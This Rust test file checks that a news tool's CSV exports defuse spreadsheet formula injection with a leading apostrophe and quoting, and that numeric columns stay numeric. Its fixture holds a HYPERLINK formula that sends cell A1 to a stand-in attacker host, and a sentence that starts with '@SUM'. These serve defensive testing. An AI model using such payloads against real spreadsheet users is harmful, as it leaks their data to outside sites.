//! CSV exports are safe to open in a spreadsheet: a cell from a feed that starts like
//! a formula (`=`, `+`, `-`, `@`, tab, CR) is neutralised as OWASP recommends (a
//! leading `'`, always quoted); numbers stay numbers.

use std::path::PathBuf;

use crate::util::Dir;

/// A title that, opened in a spreadsheet, would send cell A1 to another site.
const TITLE: &str = r#"=HYPERLINK("http://evil.example/?"&A1,"Click for the report")"#;

/// An article page under the test's own folder whose title and opening sentence are
/// formulas.
fn hostile_page(d: &Dir) -> PathBuf {
    let escaped = TITLE.replace('&', "&amp;").replace('"', "&quot;");
    let html = format!(
        r#"<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<title>{escaped}</title>
<meta property="article:published_time" content="2026-02-06T09:30:00Z"></head>
<body><article><h1>{escaped}</h1>
<p>@SUM(1+1) Amazon Web Services revenue rose 24% to $35.6 billion in the fourth quarter of 2025, the company said on Thursday in its quarterly report.</p>
<p>Amazon Web Services said operating income reached $12.5 billion in the quarter, and that its backlog grew to $244 billion as customers signed longer contracts.</p>
<p>Analysts had expected revenue of $34.9 billion. The cloud unit now runs at a $142 billion annual rate, the company said.</p>
</article></body></html>"#
    );
    let path = d.path().join("hostile.html");
    std::fs::write(&path, html).unwrap();
    path
}

/// RFC 4180 records: quoted cells may hold commas, doubled quotes and line breaks.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                record.push(std::mem::take(&mut cell));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => cell.push(c),
        }
    }
    assert!(!quoted && cell.is_empty() && record.is_empty(), "{text}");
    records
}

/// What a spreadsheet would run as a formula.
fn formula_like(cell: &str) -> bool {
    cell.trim_start_matches(' ')
        .starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Every cell of every record: either harmless or neutralised with a leading `'`; the
/// named columns are numbers.
fn assert_safe(records: &[Vec<String>], numeric: &[&str]) {
    let header = &records[0];
    for r in &records[1..] {
        assert_eq!(r.len(), header.len(), "{r:?}");
        for (name, cell) in header.iter().zip(r) {
            assert!(!formula_like(cell), "{name} = {cell:?} would run");
            if numeric.contains(&name.as_str()) && !cell.is_empty() {
                assert!(
                    cell.parse::<f64>().is_ok(),
                    "{name} = {cell:?} not a number"
                );
            }
        }
    }
}

fn column<'a>(records: &'a [Vec<String>], name: &str) -> Vec<&'a str> {
    let i = records[0].iter().position(|h| h == name).unwrap();
    records[1..].iter().map(|r| r[i].as_str()).collect()
}

#[test]
fn facts_and_search_csv_neutralise_formulas_and_keep_numbers() {
    let d = Dir::new();
    let page = hostile_page(&d);
    d.ok(&["ingest", page.to_str().unwrap()]);

    let raw = d.ok(&["facts", "--format", "csv"]);
    let facts = parse_csv(&raw);
    assert!(facts.len() > 2, "{raw}");
    assert_safe(
        &facts,
        &["article_id", "start", "end", "value", "value_max"],
    );
    let quoted_title = format!("'{TITLE}");
    assert!(
        column(&facts, "title").iter().all(|t| *t == quoted_title),
        "{raw}"
    );
    // The neutralised cell is also quoted, as OWASP advises.
    assert!(raw.contains("\"'=HYPERLINK("), "{raw}");
    assert!(
        column(&facts, "sentence")
            .iter()
            .any(|s| s.starts_with("'@SUM(1+1)")),
        "{raw}"
    );
    assert!(column(&facts, "value").contains(&"35600000000"), "{raw}");

    let raw = d.ok(&["search", "Amazon revenue", "--format", "csv"]);
    let hits = parse_csv(&raw);
    assert_eq!(hits.len(), 2, "{raw}");
    assert_safe(&hits, &["id", "score"]);
    assert_eq!(column(&hits, "title"), [quoted_title.as_str()]);

    let raw = d.ok(&["facts", "--consolidate", "--format", "csv"]);
    let groups = parse_csv(&raw);
    assert_safe(
        &groups,
        &[
            "value",
            "value_max",
            "range_min",
            "range_max",
            "articles",
            "agreeing",
        ],
    );

    // JSON keeps the text exactly as published: neutralising is for spreadsheets.
    let json = d.json(&["search", "Amazon revenue", "--format", "json"]);
    assert_eq!(json[0]["title"], TITLE);
}

#[test]
fn ingest_report_csv_is_numbers_under_a_header() {
    let d = Dir::new();
    let page = hostile_page(&d);
    let raw = d.ok(&["ingest", page.to_str().unwrap(), "--format", "csv"]);
    let rows = parse_csv(&raw);
    assert_eq!(rows.len(), 2, "{raw}");
    assert_eq!(rows[0][0], "feeds");
    assert!(rows[1].iter().all(|c| c.parse::<f64>().is_ok()), "{raw}");
    assert_eq!(column(&rows, "new"), ["1"]);
}
